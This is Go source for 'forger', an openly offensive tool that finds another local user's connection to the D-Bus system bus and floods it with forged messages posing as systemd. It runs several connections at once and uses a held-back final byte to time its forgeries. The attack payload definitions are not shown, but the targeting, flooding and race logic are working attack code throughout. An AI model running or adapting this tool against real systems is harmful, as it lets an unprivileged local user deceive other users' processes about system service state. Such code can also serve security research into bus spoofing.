// Command forger lies to a client of the system bus. It forges what the client
// awaits from systemd, in every way that any local user can. It sends as fast as the
// bus takes it, until its standard input ends. Then it prints how much it has sent.
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"maps"
	"os"
	"os/user"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/godbus/dbus/v5"
)

func main() {
	victim := flag.String("victim", "service-monitor", "`user` whose connections to the bus are lied to")
	together := flag.Int("together", 3, "`number` of connections that lie at the same time")
	flag.Usage = func() {
		fmt.Fprintf(flag.CommandLine.Output(), "usage: forger [flags] %s UNIT...\n", strings.Join(slices.Sorted(maps.Keys(attacks)), "|"))
		flag.PrintDefaults()
	}
	flag.Parse()
	a, ok := attacks[flag.Arg(0)]
	if !ok || flag.NArg() < 2 {
		flag.Usage()
		os.Exit(2)
	}
	u, err := user.Lookup(*victim)
	if err == nil {
		f := &forger{victim: u.Uid, attack: a, units: flag.Args()[1:], dam: newDam(*together), ended: make(chan struct{})}
		err = f.run(*together)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "forger:", err)
		os.Exit(1)
	}
}

// A forger makes one attack.
type forger struct {
	victim string // its uid
	attack attack
	units  []string
	dam    *dam
	ended  chan struct{} // closed with standard input

	mu sync.Mutex
	// The lies about a target are made once for all connections, because some are long.
	target string
	lies   [][]byte

	// run prints these at the end.
	messages, bytes, connections, errors atomic.Uint64
}

// run lies until standard input ends.
func (f *forger) run(together int) error {
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		close(f.ended)
		f.dam.open()
	}()
	begun := time.Now()
	ended := make(chan error)
	for range together {
		go func() { ended <- f.lieOn() }()
	}
	var err error
	for range together {
		err = errors.Join(err, <-ended)
	}
	fmt.Printf("messages=%d bytes=%d connections=%d errors=%d ms=%d\n",
		f.messages.Load(), f.bytes.Load(), f.connections.Load(), f.errors.Load(), time.Since(begun).Milliseconds())
	return err
}

func (f *forger) over() bool {
	select {
	case <-f.ended:
		return true
	default:
		return false
	}
}

// lieOn lies on one connection after the other, because the bus closes a connection
// on which something malformed comes.
func (f *forger) lieOn() error {
	for !f.over() {
		target, err := f.find()
		if err != nil || target == "" {
			return err
		}
		c, err := connect()
		if err != nil {
			return err
		}
		f.lie(c, target)
		f.errors.Add(c.close())
	}
	return nil
}

// lie tells every lie of the attack over and over, until the connection or the
// target is gone. Each connection begins one lie later than the one before it. So
// the lies that follow a malformed one are told as well, on another connection.
func (f *forger) lie(c *conn, target string) {
	lies := f.about(c.name, target)
	for i := int(f.connections.Add(1)); !f.over() && !c.stale.Load(); i++ {
		lie := lies[i%len(lies)]
		rest := lie
		if f.attack.dammed {
			c.Write(lie[:len(lie)-1])
			if c.Flush() != nil {
				return
			}
			f.dam.wait()
			rest = lie[len(lie)-1:]
		}
		if _, err := c.Write(rest); err != nil {
			return
		}
		f.bytes.Add(uint64(len(lie)))
		if f.messages.Add(1) == uint64(len(lies)) {
			fmt.Println("lying") // by now each lie was told about once
		}
	}
	c.Flush()
}

// about returns the lies about a target. self is the name of the connection that tells them.
func (f *forger) about(self, target string) [][]byte {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.target != target {
		f.target, f.lies = target, nil
		for _, unit := range f.units {
			f.lies = append(f.lies, f.attack.lies(self, target, unit)...)
		}
	}
	return f.lies
}

// find waits until the victim has a connection, and returns its unique name. It
// returns nothing if standard input ends before.
func (f *forger) find() (string, error) {
	bus, err := dbus.ConnectSystemBus()
	if err != nil {
		return "", err
	}
	defer bus.Close()
	comings := make(chan *dbus.Signal, 1000)
	bus.Signal(comings)
	if err := bus.AddMatchSignal(dbus.WithMatchSender(busName), dbus.WithMatchMember("NameOwnerChanged")); err != nil {
		return "", err
	}
	for {
		var all []string
		if err := bus.BusObject().Call(busName+".ListNames", 0).Store(&all); err != nil {
			return "", err
		}
		for _, name := range slices.Backward(all) {
			var uid uint32
			err := bus.BusObject().Call(busName+".GetConnectionUnixUser", 0, name).Store(&uid)
			if err == nil && strings.HasPrefix(name, ":") && strconv.FormatUint(uint64(uid), 10) == f.victim {
				return name, nil
			}
		}
		select {
		case <-comings:
		case <-f.ended:
			return "", nil
		}
	}
}
